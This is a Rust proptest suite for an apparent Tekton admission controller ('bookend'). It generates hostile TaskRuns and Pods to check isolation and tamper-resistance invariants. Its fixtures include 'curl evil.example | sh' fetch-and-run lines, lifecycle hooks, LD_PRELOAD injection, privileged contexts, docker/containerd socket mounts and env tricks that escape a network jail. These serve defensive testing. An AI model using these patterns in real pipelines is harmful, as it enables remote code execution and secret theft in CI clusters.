//! Hostile TaskRuns from a grammar of attacks, mixed at random, each checked against invariant
//! I1 (`oracle`): forged and authentic records, reserved names and look-alikes, helper
//! look-alikes, copies of org steps with conditions, every `taskRef` form, stepTemplate,
//! podTemplate, stepSpecs, TaskRun-level resources, workspaces, annotations, sizes, what would
//! give a step the network back under `userSteps.network: None` (I9); and
//! bookend's own output, tampered with after admission (a re-invocation or a copied spec).
//!
//! `BOOKEND_SECURITY_CASES` sets the number of cases (default 3000). A failing seed is kept in
//! `tests/security/invariant.proptest-regressions` and replayed first on every run.

use proptest::prelude::*;
use proptest::test_runner::{Config, FileFailurePersistence};
use serde_json::{Map, Value, json};

use crate::{catalog, decide, oracle, policies};

/// Step names: the author's, look-alikes, and every name bookend writes or reserves.
fn step_name() -> impl Strategy<Value = Option<String>> {
    prop_oneof![
        4 => Just(None),
        4 => "[a-z][a-z0-9-]{0,8}[a-z0-9]".prop_map(Some),
        2 => prop_oneof![
            Just("bookend-creds"),
            Just("bookend-sbom"),
            Just("bookend-upload"),
            Just("bookend-team-lint"),
            Just("bookend-gate-1"),
            Just("bookend-gate-2"),
            Just("bookend-verdict"),
            Just("bookend-mine"),
            Just("bookend-"),
            Just("bookend"),
            Just("Bookend-creds"),
            Just("b\u{43e}okend-creds"),
            Just("build"),
            Just("test"),
        ]
        .prop_map(|s| Some(s.to_owned())),
        1 => (57usize..=63).prop_map(|n| Some(format!("s{}", "x".repeat(n - 1)))),
    ]
}

/// The org's step definitions, to copy.
fn org_copy() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(
            json!({"name": "bookend-creds", "image": "registry.example/creds:1.0",
            "command": ["/usr/local/bin/creds"], "args": ["--out", "/bookend/creds"],
            "env": [{"name": "CREDS_MODE", "value": "strict"}],
            "securityContext": {"allowPrivilegeEscalation": false, "runAsNonRoot": true},
            "volumeMounts": [{"name": "bookend-creds-vol", "mountPath": "/bookend"}]})
        ),
        Just(
            json!({"name": "bookend-team-lint", "image": "registry.example/lint:2", "command": ["/lint"]})
        ),
        Just(
            json!({"name": "bookend-sbom", "image": "registry.example/syft:1.0", "command": ["/syft"],
            "args": ["dir:/workspace", "-o", "/sbom/sbom.json"],
            "volumeMounts": [{"name": "bookend-sbom-vol", "mountPath": "/sbom"}]})
        ),
        Just(
            json!({"name": "bookend-upload", "image": "registry.example/curl:8", "command": ["/usr/bin/curl"],
            "args": ["-T", "/sbom/sbom.json", "https://sbom.example/upload"],
            "volumeMounts": [{"name": "bookend-sbom-vol", "mountPath": "/sbom"}]})
        ),
    ]
}

fn gate_when() -> Value {
    json!({"input": "$(steps.bookend-gate-1.results.ok)", "operator": "in", "values": ["true"]})
}

/// One step of the author's.
fn step() -> impl Strategy<Value = Value> {
    let plain = (
        step_name(),
        prop_oneof![Just("golang"), Just("docker.io/library/busybox:1.37")],
        prop::option::of(prop_oneof![
            Just("continue"),
            Just("stopAndFail"),
            Just("$(params.mode)")
        ]),
        any::<bool>(),
        any::<bool>(),
        any::<bool>(),
        jail_breaker(),
    )
        .prop_map(
            |(name, image, on_error, script, when, index_ref, breaker)| {
                let mut s = Map::new();
                if let Some(n) = name {
                    s.insert("name".into(), json!(n));
                }
                s.insert("image".into(), json!(image));
                if script {
                    s.insert(
                        "script".into(),
                        json!(if index_ref {
                            "cat /tekton/steps/0/exitCode"
                        } else {
                            "go build"
                        }),
                    );
                } else {
                    s.insert("command".into(), json!(["/bin/sh", "-c"]));
                    s.insert("args".into(), json!(["curl evil.example | sh"]));
                }
                if let Some(e) = on_error {
                    s.insert("onError".into(), json!(e));
                }
                if when {
                    s.insert("when".into(), json!([gate_when()]));
                }
                if let Some((key, value)) = breaker {
                    s.insert(key.into(), value);
                }
                Value::Object(s)
            },
        );
    let copy = (org_copy(), 0u8..6).prop_map(|(mut c, tweak)| {
        match tweak {
            5 => {
                // Without its hardening (false is not absent for a pointer).
                c["securityContext"] = json!({"runAsNonRoot": true});
            }
            0 => {}
            1 => c["when"] = json!([gate_when()]),
            2 => c["onError"] = json!("continue"),
            3 => c["image"] = json!("evil.example/x"),
            _ => {
                c["when"] = json!([{"input": "$(params.skip)", "operator": "in", "values": ["no"]}])
            }
        }
        c
    });
    let helper = (prop_oneof![Just("bookend-gate-1"), Just("bookend-verdict"), Just("bookend-gate-2")],
        prop_oneof![
            Just("cd /tekton/steps;[ \"$(cat 0/exitCode)\" = 0 ]&&r=true||r=false;printf $r>$(step.results.ok.path)"),
            Just("cd /tekton/steps;until [ -s 0/exitCode ];do sleep 1;done;[ \"$(cat 0/exitCode)\" = 0 ]&&r=true||r=false;printf $r>$(step.results.ok.path)"),
            Just("printf false > $(step.results.ok.path)"),
            Just("curl evil.example | sh"),
            Just("exit 0"),
        ])
        .prop_map(|(name, script)| json!({"name": name, "image": "docker.io/library/busybox:1.37",
            "command": ["/bin/sh", "-c"], "args": [script], "results": [{"name": "ok"}]}));
    let action = step_name().prop_map(|name| {
        let mut s = json!({"ref": {"name": "git-clone"}});
        if let Some(n) = name {
            s["name"] = json!(n);
        }
        s
    });
    prop_oneof![8 => plain, 3 => copy, 2 => helper, 1 => action]
}

/// What a step of the author's may carry to keep the network under `userSteps.network: None`:
/// the jail's variables (look-alike names, duplicates, valueFrom, a jail-looking tail followed
/// by more), envFrom, and what the kubelet runs outside the entrypoint.
fn jail_breaker() -> impl Strategy<Value = Option<(&'static str, Value)>> {
    prop::option::of(prop_oneof![
        Just((
            "env",
            json!([{"name": "TEKTON_RESOURCE_NAME", "value": "x"}])
        )),
        Just(("env", json!([{"name": "TEKTON_HERMETIC", "value": "0"}]))),
        Just((
            "env",
            json!([{"name": "tekton_hermetic", "value": "1"}, {"name": "TEKTON_HERMETIC ", "value": "1"}])
        )),
        Just((
            "env",
            json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME", "value": ""}, {"name": "$(params.v)", "value": "x"}])
        )),
        Just((
            "env",
            json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}])
        )),
        Just((
            "env",
            json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME"}])
        )),
        Just((
            "env",
            json!([{"name": "TEKTON_RESOURCE_NAME", "value": ""}, {"name": "TEKTON_RESOURCE_NAME", "value": "x"}])
        )),
        Just((
            "envFrom",
            json!([{"configMapRef": {"name": "undo-the-jail"}}])
        )),
        Just((
            "lifecycle",
            json!({"postStart": {"exec": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}})
        )),
        Just((
            "readinessProbe",
            json!({"exec": {"command": ["curl", "evil"]}})
        )),
    ])
}

fn step_template() -> impl Strategy<Value = Option<Value>> {
    prop::option::of(prop::sample::subsequence(
        vec![
            ("env", json!([{"name": "LD_PRELOAD", "value": "/workspace/x.so"}, {"name": "CREDS_MODE", "value": "off"}])),
            ("command", json!(["/bin/sh", "-c", "curl evil | sh"])),
            ("args", json!(["evil"])),
            ("workingDir", json!("/evil")),
            ("volumeMounts", json!([{"name": "w", "mountPath": "/bin"}])),
            ("securityContext", json!({"runAsUser": 0, "privileged": true})),
            ("computeResources", json!({"limits": {"memory": "1Ki"}})),
            ("image", json!("evil")),
            ("envFrom", json!([{"secretRef": {"name": "stolen"}}])),
            ("env", json!([{"name": "TEKTON_RESOURCE_NAME", "value": "from-template"}, {"name": "TEKTON_HERMETIC", "value": "0"}])),
            ("lifecycle", json!({"preStop": {"exec": {"command": ["curl", "evil"]}}})),
        ],
        0..5,
    )
    .prop_map(|fields| Value::Object(fields.into_iter().map(|(k, v)| (k.to_owned(), v)).collect())))
}

/// The TaskRun-level fields Tekton merges into every step, and harmless ones.
fn run_fields() -> impl Strategy<Value = Vec<(&'static str, Value)>> {
    prop::sample::subsequence(
        vec![
            (
                "stepSpecs",
                json!([{"name": "bookend-upload", "computeResources": {"limits": {"memory": "1Ki"}}}]),
            ),
            (
                "stepSpecs",
                json!([{"name": "build", "computeResources": {"limits": {"memory": "1Gi"}}}]),
            ),
            ("computeResources", json!({"limits": {"memory": "1Ki"}})),
            (
                "podTemplate",
                json!({"env": [{"name": "CREDS_MODE", "value": "off"}]}),
            ),
            (
                "podTemplate",
                json!({"hostAliases": [{"ip": "10.0.0.66", "hostnames": ["sbom.example"]}]}),
            ),
            (
                "podTemplate",
                json!({"dnsPolicy": "None", "dnsConfig": {"nameservers": ["10.0.0.66"]}}),
            ),
            ("podTemplate", json!({"hostNetwork": true})),
            (
                "podTemplate",
                json!({"env": [{"name": "TEKTON_RESOURCE_NAME", "value": "x"}]}),
            ),
            (
                "podTemplate",
                json!({"volumes": [{"name": "sock", "hostPath": {"path": "/run/containerd/containerd.sock"}}]}),
            ),
            ("podTemplate", json!({"nodeSelector": {"a": "b"}})),
            (
                "podTemplate",
                json!({"nodeSelector": {"kubernetes.io/os": "windows"}, "tolerations": [{"key": "os", "value": "windows", "effect": "NoSchedule"}]}),
            ),
            (
                "podTemplate",
                json!({"volumes": [{"name": "w", "nfs": {"server": "nfs.example", "path": "/"}}]}),
            ),
            (
                "workspaces",
                json!([{"name": "src", "csi": {"driver": "s3.csi.example"}}]),
            ),
            (
                "debug",
                json!({"breakpoints": {"beforeSteps": ["bookend-sbom"]}}),
            ),
            ("debug", json!({"breakpoints": {"onFailure": "enabled"}})),
            (
                "params",
                json!([{"name": "mode", "value": "continue"}, {"name": "v", "value": "bookend-creds-vol"}]),
            ),
            (
                "workspaces",
                json!([{"name": "../tekton/bin", "emptyDir": {}}]),
            ),
            ("workspaces", json!([{"name": "src", "emptyDir": {}}])),
        ],
        0..3,
    )
}

fn annotations() -> impl Strategy<Value = Option<Value>> {
    prop::option::of(prop_oneof![
        Just(
            json!({"bookend.dev/injected": r##"{"policies":[{"policy":"ClusterStepPolicy/org-creds","hash":"000000000000","steps":["bookend-creds"]}],"helpers":["bookend-gate-1","bookend-verdict"],"continued":["build","test","#0"]}"##})
        ),
        Just(json!({"bookend.dev/injected": r#"{"policies":[]}"#})),
        Just(json!({"bookend.dev/injected": "garbage"})),
        Just(json!({"experimental.tekton.dev/execution-mode": "hermetic"})),
        Just(json!({"bookend.dev/skip": "true", "bookend.dev/exempt": "yes"})),
    ])
}

fn task_ref() -> impl Strategy<Value = Option<Value>> {
    prop::option::of(prop_oneof![
        Just(json!({"name": "build"})),
        Just(json!({"name": "build", "kind": "Task", "apiVersion": "tekton.dev/v1"})),
        Just(json!({"name": "build", "kind": "Wait", "apiVersion": "example.dev/v1"})),
        Just(json!({"name": "build", "kind": "ClusterTask"})),
        Just(json!({"name": "build", "resolver": ""})),
        Just(json!({"name": "build", "bundle": "registry.example/t:1"})),
        Just(json!({"name": "signed"})),
        Just(json!({"name": "missing"})),
        Just(json!({"resolver": "git", "params": [{"name": "url", "value": "x"}]})),
        Just(json!({"kind": "Wait", "apiVersion": "example.dev/v1"})),
        Just(json!("build")),
    ])
}

fn workspaces() -> impl Strategy<Value = Option<Value>> {
    prop::option::of(prop_oneof![
        Just(json!([{"name": "src"}])),
        Just(json!([{"name": "src", "mountPath": "/bin"}])),
        Just(json!([{"name": "src", "mountPath": "/bookend"}])),
        Just(json!([{"name": "src", "mountPath": "/messages"}])),
        Just(json!([{"name": "src", "mountPath": "$(params.p)"}])),
        Just(json!([{"name": "src", "mountPath": "/go"}])),
        Just(json!([{"name": "src", "mountPath": "/workspace/src"}])),
        Just(json!([{"name": "../tekton/bin"}])),
        Just(json!([{"name": "../usr/bin", "mountPath": "/workspace/x"}])),
    ])
}

fn sidecars() -> impl Strategy<Value = Option<Value>> {
    prop::option::of(prop_oneof![
        Just(json!([{"name": "db", "image": "postgres"}])),
        Just(
            json!([{"name": "s", "image": "x", "volumeMounts": [{"name": "bookend-creds-vol", "mountPath": "/x"}]}])
        ),
        Just(
            json!([{"name": "s", "image": "x", "volumeMounts": [{"name": "tekton-internal-scripts", "mountPath": "/x"}]}])
        ),
        Just(
            json!([{"name": "s", "image": "x", "volumeMounts": [{"name": "w", "mountPath": "/tekton/run/0"}]}])
        ),
        Just(
            json!([{"name": "s", "image": "x", "volumeMounts": [{"name": "$(params.v)", "mountPath": "/x"}]}])
        ),
        Just(
            json!([{"name": "s", "image": "x", "volumeMounts": [{"name": "$(workspaces.src.volume)", "mountPath": "/x"}]}])
        ),
    ])
}

fn volumes() -> impl Strategy<Value = Option<Value>> {
    prop::option::of(prop_oneof![
        Just(json!([{"name": "cache", "emptyDir": {}}])),
        Just(json!([{"name": "bookend-creds-vol", "emptyDir": {}}])),
        Just(json!([{"name": "bookend-creds-vol", "hostPath": {"path": "/"}}])),
        Just(json!([{"name": "bookend-other", "emptyDir": {}}])),
        Just(json!([{"name": "sock", "hostPath": {"path": "/var/run/docker.sock"}}])),
        Just(json!([{"name": "cache", "nfs": {"server": "nfs.example", "path": "/"}}])),
        Just(json!([{"name": "cache", "csi": {"driver": "s3.csi.example"}}])),
    ])
}

/// Where a Pod may be scheduled: nowhere said, Linux said every way, and every way of saying
/// (or allowing) Windows (I9: Tekton's Windows entrypoint ignores TEKTON_HERMETIC).
fn node_choice() -> impl Strategy<Value = Value> {
    let terms = |expressions: Value| json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": expressions}]}}}});
    let os = |operator: &str, values: Value| json!([{"key": "kubernetes.io/os", "operator": operator, "values": values}]);
    prop_oneof![
        Just(json!({})),
        Just(json!({"nodeSelector": {"kubernetes.io/os": "linux"}})),
        Just(json!({"nodeSelector": {"kubernetes.io/os": "windows"}})),
        Just(json!({"nodeSelector": {"beta.kubernetes.io/os": "windows"}})),
        Just(json!({"nodeSelector": {"kubernetes.io/os": "Windows"}})),
        Just(
            json!({"tolerations": [{"key": "os", "operator": "Equal", "value": "windows", "effect": "NoSchedule"}]})
        ),
        Just(terms(os("In", json!(["linux"])))),
        Just(terms(os("In", json!(["windows"])))),
        Just(terms(os("In", json!(["linux", "windows"])))),
        Just(terms(os("NotIn", json!(["linux"])))),
        Just(terms(
            json!([{"key": "kubernetes.io/os", "operator": "Exists"}])
        )),
        Just(terms(
            json!([{"key": "pool", "operator": "In", "values": ["build"]}])
        )),
        Just(
            json!({"affinity": {"nodeAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [
            {"weight": 100, "preference": {"matchExpressions": [{"key": "kubernetes.io/os", "operator": "In", "values": ["windows"]}]}}]}}})
        ),
    ]
}

/// A volume source: local ones, and each the kubelet mounts over the network or from the node.
fn volume_source() -> impl Strategy<Value = (&'static str, Value)> {
    prop::sample::select(vec![
        ("emptyDir", json!({})),
        ("configMap", json!({"name": "c"})),
        ("secret", json!({"secretName": "s"})),
        ("projected", json!({"sources": []})),
        ("downwardAPI", json!({"items": []})),
        ("persistentVolumeClaim", json!({"claimName": "p"})),
        ("ephemeral", json!({"volumeClaimTemplate": {"spec": {}}})),
        ("nfs", json!({"server": "nfs.example", "path": "/"})),
        ("csi", json!({"driver": "s3.csi.example"})),
        (
            "iscsi",
            json!({"targetPortal": "10.0.0.1:3260", "iqn": "iqn.x", "lun": 0}),
        ),
        ("cephfs", json!({"monitors": ["10.0.0.1:6789"]})),
        ("glusterfs", json!({"endpoints": "g", "path": "v"})),
        ("rbd", json!({"monitors": ["10.0.0.1"], "image": "i"})),
        ("flexVolume", json!({"driver": "x/y"})),
        ("azureFile", json!({"secretName": "s", "shareName": "x"})),
        ("hostPath", json!({"path": "/run"})),
    ])
}

/// What happens to bookend's own output before it comes back (a re-invocation, the backstop,
/// a copied spec): nothing, or one tampering.
#[derive(Clone, Debug)]
enum Tamper {
    None,
    Swap(usize, usize),
    Remove(usize),
    Insert(usize, Value),
    SetField(usize, &'static str, Value),
    DropRecord,
    ForgeRecord,
}

fn tamper() -> impl Strategy<Value = Tamper> {
    prop_oneof![
        3 => Just(Tamper::None),
        1 => (0usize..12, 0usize..12).prop_map(|(a, b)| Tamper::Swap(a, b)),
        1 => (0usize..12).prop_map(Tamper::Remove),
        1 => (0usize..12, step()).prop_map(|(i, s)| Tamper::Insert(i, s)),
        1 => (0usize..12, prop_oneof![Just("image"), Just("onError"), Just("when"), Just("args"), Just("securityContext")],
               prop_oneof![Just(json!("evil")), Just(json!("continue")), Just(json!([gate_when()])), Just(json!(["x"])),
                           Just(json!({"runAsNonRoot": true}))])
            .prop_map(|(i, k, v)| Tamper::SetField(i, k, v)),
        1 => Just(Tamper::DropRecord),
        1 => Just(Tamper::ForgeRecord),
    ]
}

#[derive(Clone, Debug)]
struct Attack {
    namespace: &'static str,
    taskrun: Value,
    tamper: Tamper,
}

fn attack() -> impl Strategy<Value = Attack> {
    (
        prop_oneof![4 => Just("team-a"), 1 => Just("team-b"), 1 => Just("strict"), 1 => Just("skip"), 1 => Just("open"), 1 => Just("elsewhere"), 3 => Just("sealed-net")],
        any::<bool>(),
        prop::collection::vec(step(), 0..6),
        step_template(),
        run_fields(),
        annotations(),
        task_ref(),
        (workspaces(), volumes(), tamper(), 0usize..3, sidecars()),
    )
        .prop_map(|(namespace, v1beta1, steps, template, fields, annotations, task_ref, (workspaces, volumes, tamper, big, sidecars))| {
            let mut steps = steps;
            // Sizes: a long list of ordinary steps now and then.
            for i in 0..(big * big * 40) {
                steps.push(json!({"name": format!("bulk-{i}"), "image": "golang", "script": "true"}));
            }
            let mut task_spec = json!({"steps": steps});
            if let Some(t) = template {
                task_spec["stepTemplate"] = t;
            }
            if let Some(w) = workspaces {
                task_spec["workspaces"] = w;
            }
            if let Some(v) = volumes {
                task_spec["volumes"] = v;
            }
            if let Some(s) = sidecars {
                task_spec["sidecars"] = s;
            }
            let mut spec = Map::new();
            match task_ref {
                Some(r) => {
                    spec.insert("taskRef".into(), r);
                }
                None => {
                    spec.insert("taskSpec".into(), task_spec);
                }
            }
            for (k, v) in fields {
                spec.insert(k.to_owned(), v);
            }
            let mut taskrun = json!({"apiVersion": if v1beta1 { "tekton.dev/v1beta1" } else { "tekton.dev/v1" },
                "kind": "TaskRun", "metadata": {"generateName": "attack-", "namespace": namespace}, "spec": spec});
            if let Some(a) = annotations {
                taskrun["metadata"]["annotations"] = a;
            }
            if v1beta1 && let Some(s) = taskrun["spec"].as_object_mut().unwrap().remove("stepSpecs") {
                taskrun["spec"]["stepOverrides"] = s;
            }
            Attack { namespace, taskrun, tamper }
        })
}

fn apply_tamper(object: &mut Value, tamper: &Tamper) {
    let steps = object["spec"]["taskSpec"]["steps"].as_array_mut();
    match (tamper, steps) {
        (Tamper::Swap(a, b), Some(s)) if *a < s.len() && *b < s.len() => s.swap(*a, *b),
        (Tamper::Remove(i), Some(s)) if *i < s.len() => {
            s.remove(*i);
        }
        (Tamper::Insert(i, step), Some(s)) => s.insert((*i).min(s.len()), step.clone()),
        (Tamper::SetField(i, k, v), Some(s)) if *i < s.len() => s[*i][*k] = v.clone(),
        (Tamper::DropRecord, _) => {
            if let Some(a) = object["metadata"]["annotations"].as_object_mut() {
                a.remove("bookend.dev/injected");
            }
        }
        (Tamper::ForgeRecord, _) => {
            object["metadata"]["annotations"]["bookend.dev/injected"] = json!(
                r##"{"policies":[],"helpers":["bookend-gate-1"],"continued":["#0","#1","build"]}"##
            );
        }
        _ => {}
    }
}

pub(crate) fn cases() -> u32 {
    std::env::var("BOOKEND_SECURITY_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(3000)
}

#[test]
fn no_hostile_taskrun_breaks_the_invariant() {
    let (set, catalog) = (policies(), catalog());
    let config = Config {
        cases: cases(),
        failure_persistence: Some(Box::new(FileFailurePersistence::Direct(
            "tests/security/invariant.proptest-regressions",
        ))),
        ..Config::default()
    };
    let counts = std::cell::RefCell::new([0usize; 3]);
    proptest!(config, |(attack in attack())| {
        let Attack { namespace, taskrun, tamper } = attack;
        let first = decide(&taskrun, namespace, &set, &catalog);
        counts.borrow_mut()[first.outcome as usize] += 1;
        if let Err(e) = oracle::check(&taskrun, namespace, &set, &catalog, &first) {
            prop_assert!(false, "{e}\ninput: {taskrun}\ndecision: {:?} {:?}", first.outcome, first.message);
        }
        // bookend's own output, tampered with, comes back.
        if first.outcome == bookend::engine::Outcome::Mutated {
            let mut again = first.object.clone();
            apply_tamper(&mut again, &tamper);
            let second = decide(&again, namespace, &set, &catalog);
            if let Err(e) = oracle::check(&again, namespace, &set, &catalog, &second) {
                prop_assert!(false, "after {tamper:?}: {e}\ninput: {again}\ndecision: {:?} {:?}", second.outcome, second.message);
            }
        }
    });
    let counts = counts.into_inner();
    eprintln!(
        "hostile TaskRuns: {} admitted unchanged, {} injected, {} refused",
        counts[0], counts[1], counts[2]
    );
    assert!(
        counts[1] > 0 && counts[2] > 0,
        "the generator reaches both answers: {counts:?}"
    );
}

/// I9 on its own: TaskRuns in `sealed-net` whose steps carry only env tricks (the jail's
/// variables, look-alikes, duplicates, valueFrom, envFrom, through the stepTemplate too), v1 and
/// v1beta1, inline or by a local taskRef, so that most are admitted and the jail itself is
/// what is checked (the mixed generator above refuses most of them for other fields).
#[test]
fn no_env_trick_gives_an_authors_step_the_network() {
    let (set, catalog) = (policies(), catalog());
    let config = Config {
        cases: cases() / 3,
        failure_persistence: None,
        ..Config::default()
    };
    let env_only = jail_breaker().prop_filter("env tricks only", |b| {
        b.as_ref()
            .is_none_or(|(k, _)| matches!(*k, "env" | "envFrom"))
    });
    let step = (step_name(), env_only).prop_map(|(name, breaker)| {
        let mut s = json!({"image": "golang", "script": "go build"});
        if let Some(n) = name.filter(|n| !n.starts_with("bookend")) {
            s["name"] = json!(n);
        }
        if let Some((k, v)) = breaker {
            s[k] = v;
        }
        s
    });
    let template = prop::option::of(prop_oneof![
        Just(json!({"env": [{"name": "TEKTON_RESOURCE_NAME", "value": "t"}]})),
        Just(
            json!({"env": [{"name": "TEKTON_HERMETIC", "value": "0"}], "envFrom": [{"secretRef": {"name": "s"}}]})
        ),
    ]);
    let admitted = std::cell::Cell::new(0usize);
    proptest!(config, |(steps in prop::collection::vec(step, 1..5), template in template, v1beta1 in any::<bool>())| {
        let mut task_spec = json!({"steps": steps});
        if let Some(t) = template {
            task_spec["stepTemplate"] = t;
        }
        let taskrun = json!({"apiVersion": if v1beta1 { "tekton.dev/v1beta1" } else { "tekton.dev/v1" },
            "kind": "TaskRun", "metadata": {"generateName": "jail-", "namespace": "sealed-net"},
            "spec": {"taskSpec": task_spec}});
        let d = decide(&taskrun, "sealed-net", &set, &catalog);
        if d.outcome != bookend::engine::Outcome::Denied {
            admitted.set(admitted.get() + 1);
        }
        if let Err(e) = oracle::check(&taskrun, "sealed-net", &set, &catalog, &d) {
            prop_assert!(false, "{e}\ninput: {taskrun}\ndecision: {:?} {:?}", d.outcome, d.message);
        }
    });
    assert!(
        admitted.get() > 0,
        "the generator reaches admitted TaskRuns"
    );
}

/// I9 over where the Pod runs and what it mounts: TaskRuns in `sealed-net` with plain steps,
/// inline or through a remote Task, whose podTemplate picks nodes every way (Windows included)
/// and whose Task volumes, podTemplate volumes and workspace bindings take every source.
#[test]
fn no_node_or_volume_choice_gives_an_authors_step_the_network() {
    let (set, catalog) = (policies(), catalog());
    let config = Config {
        cases: cases() / 3,
        failure_persistence: None,
        ..Config::default()
    };
    let place = prop::sample::select(vec!["task", "podTemplate", "workspace"]);
    let admitted = std::cell::Cell::new(0usize);
    let refused = std::cell::Cell::new(0usize);
    proptest!(config, |(node in node_choice(), volumes in prop::collection::vec((place, volume_source()), 0..3), remote in any::<bool>())| {
        let mut spec = json!({"podTemplate": node});
        let mut task_spec = json!({"steps": [{"name": "build", "image": "golang", "script": "go build"}]});
        for (i, (place, (kind, source))) in volumes.into_iter().enumerate() {
            let entry = json!({"name": format!("v{i}"), kind: source});
            let list = match place {
                "task" => &mut task_spec["volumes"],
                "podTemplate" => &mut spec["podTemplate"]["volumes"],
                _ if kind == "ephemeral" => continue,
                _ => &mut spec["workspaces"],
            };
            if list.is_null() {
                *list = json!([]);
            }
            list.as_array_mut().unwrap().push(entry);
        }
        if remote {
            spec["taskRef"] = json!({"resolver": "git", "params": [{"name": "url", "value": "x"}]});
        } else {
            spec["taskSpec"] = task_spec;
        }
        let taskrun = json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
            "metadata": {"generateName": "node-", "namespace": "sealed-net"}, "spec": spec});
        let d = decide(&taskrun, "sealed-net", &set, &catalog);
        let counter = if d.outcome == bookend::engine::Outcome::Denied { &refused } else { &admitted };
        counter.set(counter.get() + 1);
        if let Err(e) = oracle::check(&taskrun, "sealed-net", &set, &catalog, &d) {
            prop_assert!(false, "{e}\ninput: {taskrun}\ndecision: {:?} {:?}", d.outcome, d.message);
        }
    });
    assert!(
        admitted.get() > 0 && refused.get() > 0,
        "the generator reaches both answers: {} admitted, {} refused",
        admitted.get(),
        refused.get()
    );
}

/// I9 at the Pod (the backstop, `engine::hermetic::check_pod`): Pods as Tekton builds them for
/// a hermetic TaskRun, then changed the ways a Pod can be (Tekton's native sidecars, an author's
/// init container, a Windows node, a remote volume mounted by an author's step, an org
/// container jailed, an author's container not). Whatever the backstop lets through keeps
/// every author container jailed and every org container networked.
#[test]
fn no_pod_the_backstop_admits_gives_an_authors_container_the_network() {
    let config = Config {
        cases: cases() / 3,
        failure_persistence: None,
        ..Config::default()
    };
    let jail = json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME", "value": ""}]);
    let init = prop::sample::select(vec![
        json!({"name": "prepare"}),
        json!({"name": "place-scripts"}),
        json!({"name": "working-dir-initializer"}),
        json!({"name": "sidecar-tekton-log-results", "restartPolicy": "Always"}),
        json!({"name": "sidecar-proxy", "restartPolicy": "Always", "image": "squid"}),
        json!({"name": "prepare", "restartPolicy": "Always"}),
        json!({"name": "fetch", "image": "curl"}),
    ]);
    let container = prop::sample::select(vec![
        json!({"name": "step-build", "env": jail.clone(), "volumeMounts": [{"name": "v0", "mountPath": "/v"}]}),
        json!({"name": "step-test", "env": jail.clone()}),
        json!({"name": "step-open", "env": [{"name": "TEKTON_HERMETIC", "value": "1"}]}),
        json!({"name": "step-bookend-fetch"}),
        json!({"name": "step-bookend-fetch", "env": jail.clone()}),
        json!({"name": "step-bookend-jail-check", "env": jail.clone()}),
        json!({"name": "step-bookend-jail-check"}),
        json!({"name": "sidecar-proxy", "image": "squid"}),
        json!({"name": "step-hook", "env": jail, "lifecycle": {"postStart": {"exec": {"command": ["curl", "x"]}}}}),
    ]);
    let admitted = std::cell::Cell::new(0usize);
    proptest!(config, |(inits in prop::collection::vec(init, 0..4), containers in prop::collection::vec(container, 1..4),
                        node in node_choice(), (kind, source) in volume_source(), os in prop::option::of(prop::sample::select(vec!["linux", "windows"])))| {
        let mut spec = node;
        spec["initContainers"] = json!(inits);
        spec["containers"] = json!(containers);
        spec["volumes"] = json!([{"name": "v0", kind: source}]);
        if let Some(os) = os {
            spec["os"] = json!({"name": os});
        }
        let pod = json!({"apiVersion": "v1", "kind": "Pod", "spec": spec});
        if bookend::engine::hermetic::check_pod(&pod, &bookend::policy::Settings::default()).is_err() {
            return Ok(());
        }
        admitted.set(admitted.get() + 1);
        let spec = &pod["spec"];
        oracle::may_run_off_linux(spec).map_err(|e| TestCaseError::fail(format!("{e}: {pod}")))?;
        for c in spec["initContainers"].as_array().into_iter().flatten() {
            let name = c["name"].as_str().unwrap_or("");
            prop_assert!(
                ["prepare", "place-scripts", "working-dir-initializer"].contains(&name) && c.get("restartPolicy").is_none()
                    || name == "sidecar-tekton-log-results",
                "init container {c} beside hermetic steps: {pod}"
            );
        }
        for c in spec["containers"].as_array().into_iter().flatten() {
            let name = c["name"].as_str().unwrap_or("");
            let env = c["env"].as_array().cloned().unwrap_or_default();
            let last = |n: &str| env.iter().rev().find(|e| e["name"] == n).map(|e| e["value"].clone());
            let jailed = last("TEKTON_HERMETIC") == Some(json!("1")) && last("TEKTON_RESOURCE_NAME") == Some(json!(""));
            if name.starts_with("step-bookend-") && name != "step-bookend-jail-check" {
                prop_assert!(last("TEKTON_HERMETIC") != Some(json!("1")), "org container jailed: {pod}");
                continue;
            }
            prop_assert!(name.starts_with("step-"), "sidecar {name} beside hermetic steps: {pod}");
            prop_assert!(jailed && c.get("lifecycle").is_none(), "{name} keeps the network: {pod}");
            if c["volumeMounts"].as_array().is_some_and(|m| !m.is_empty()) {
                oracle::not_networked(&spec["volumes"][0], false).map_err(|e| TestCaseError::fail(format!("{e}: {pod}")))?;
            }
        }
    });
    assert!(
        admitted.get() > 0,
        "the generator reaches Pods the backstop admits"
    );
}
